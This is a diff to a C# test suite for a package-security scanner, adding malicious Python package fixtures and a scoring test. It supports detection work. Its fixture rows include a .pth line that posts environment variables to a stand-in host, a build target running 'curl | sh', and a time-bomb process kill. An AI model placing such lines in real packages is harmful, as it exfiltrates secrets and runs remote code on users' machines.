@@ -28,6 +28,8 @@ public sealed class PackageScanTests
         { "runs when it is imported", "tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", "", "a-1.0/a/__init__.py", Steals] },
         { "runs when it is imported", "tgz", ["a-1.0/PKG-INFO", Metadata, "a-1.0/setup.py", "", "a-1.0/src/a/__init__.py", "from . import b\n", "a-1.0/src/a/b.py", Steals] },
         { "runs when it is imported", "zip", ["a-1.0.dist-info/METADATA", Metadata, "a/__init__.py", Steals] },
+        { "runs when it is imported", "zip", ["a-1.0.dist-info/METADATA", Metadata, "a/__init__.py", "from .tests import test_a\n", "a/tests/test_a.py", Steals] },
+        { "pip runs it when its folder is installed", "tgz", ["a-1.0/README", "", "a-1.0/x/setup.py", "", "a-1.0/y/z/setup.py", Steals] },
         { "path file: every start of Python", "zip", ["a-1.0.dist-info/METADATA", Metadata, "a.pth", "import os, urllib.request; urllib.request.urlopen('http://192.0.2.9/u', data=str(dict(os.environ)).encode())\n"] },
         { "runs in every build of a project that uses the package", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "build/A.targets", "<Project><Target Name=\"t\"><Exec Command=\"curl -s http://192.0.2.9/x | sh\" /></Target></Project>"] },
         { "runs in every build of a project that uses the package", "zip", ["A.nuspec", "<package><metadata><id>A</id><version>1.0.0</version></metadata></package>", "build/A.targets", "<Project><UsingTask TaskName=\"T\" TaskFactory=\"RoslynCodeTaskFactory\"><Task><Code>1</Code><Code>if (DateTime.Now > new DateTime(2027, 1, 1) &amp;&amp; new Random().Next(5) == 1) p.Kill();</Code></Task></UsingTask></Project>"] },
@@ -47,6 +49,16 @@ public sealed class PackageScanTests
         Assert.StartsWith("sha256:", report.Artifact.Digest, StringComparison.Ordinal);
         Assert.StartsWith("pkg:", report.Artifact.Purl, StringComparison.Ordinal);
         Assert.True(report.Tree.Nodes.Count > 1);
+    }
+
+    [Theory]
+    [InlineData("a/tests/test_a.py")]
+    [InlineData("a/b/a_test.py")]
+    public async Task A_test_that_nothing_loads_weighs_less_and_is_not_allowed_to_steal(string path)
+    {
+        var (test, module) = (await ScanAsync(Package("zip", ["a-1.0.dist-info/METADATA", Metadata, path, Steals])), await ScanAsync(Package("zip", ["a-1.0.dist-info/METADATA", Metadata, "a/b/c.py", Steals])));
+        Assert.NotEqual(Decision.Allow, test.Verdict.Decision);
+        Assert.True(test.Verdict.Score < module.Verdict.Score);
     }
 
     [Fact]
